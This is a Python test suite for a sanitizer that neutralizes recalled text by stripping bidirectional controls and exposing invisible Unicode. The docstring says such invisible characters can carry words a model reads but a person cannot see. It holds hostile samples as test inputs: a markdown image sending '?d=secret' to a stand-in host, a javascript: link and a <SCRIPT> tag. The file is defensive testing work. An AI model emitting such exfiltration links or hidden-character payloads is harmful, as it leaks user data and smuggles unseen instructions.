"""Recalled text is data: no letter of it may steer what shows it."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helix.doors.documents import as_json
from helix.doors.neutral import neutral, one_line

ANY_TEXT = st.text(st.characters())
STEERING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def steers(letter: str) -> bool:
    return (
        unicodedata.category(letter) in {"Cc", "Cs", "Zl", "Zp"}
        or unicodedata.bidirectional(letter) in STEERING
    ) and letter not in "\n\t"


@given(ANY_TEXT)
def test_nothing_that_steers_survives(text):
    assert not [letter for letter in neutral(text) if steers(letter)]


@given(ANY_TEXT)
def test_one_line_is_one_line(text):
    assert len(one_line(text).splitlines()) <= 1


@given(ANY_TEXT)
def test_neutral_text_stays_as_it_is(text):
    assert neutral(neutral(text)) == neutral(text)


@given(ANY_TEXT)
def test_a_document_says_exactly_what_was_kept_and_steers_nothing(text):
    written = as_json({"content": text}).decode()
    assert json.loads(written) == {"content": text}
    assert not [letter for letter in written if steers(letter)]


def test_languages_are_left_alone():
    for text in (
        "grüße",
        "日本語",
        "שלום",
        "مرحبا",
        "👩\u200d💻",
        "❤\ufe0f ☎\ufe0e",
        "नमस्\u200cते",
        "tab\tnew\nline",
    ):
        assert neutral(text) == text


@pytest.mark.parametrize(
    "hidden",
    [
        "\u00ad",  # soft hyphen
        "\u034f\u180e\u3164\uffa0\u115f\u17b4",  # letters without a shape
        "\U000e0041\U000e0042",  # tags
        "\U000e0100\U000e01ef",  # selectors of variants, two hundred of them: a whole alphabet
        "\ufe00\ufe0e\ufe01",  # a run of the other sixteen
    ],
)
def test_nothing_is_hidden_between_letters(hidden):
    """Words that a person cannot see and a model can read become visible."""
    shown = neutral(f"ok{hidden}ok")
    assert not set(hidden[1:] or hidden) & set(shown)
    assert "\\" in shown
    assert neutral(shown) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://e.example/?d=secret)", "![x] (https://e.example/?d=secret)"),
        ("[see](//e.example/a)", "[see] (//e.example/a)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("<img src=https://e.example/a>", "< img src=https://e.example/a>"),
        ("<SCRIPT>", "< SCRIPT>"),
        ("handlers[0](event) and a < b", "handlers[0](event) and a < b"),
        ("Map<String, List<Image>>", "Map<String, List<Image>>"),
        ("see [the docs](docs/time.md)", "see [the docs](docs/time.md)"),
    ],
)
def test_nothing_is_loaded_by_showing_it(text, shown):
    """Pictures and links become words; code and relative links stay as they are."""
    assert neutral(text) == shown
    assert neutral(shown) == shown
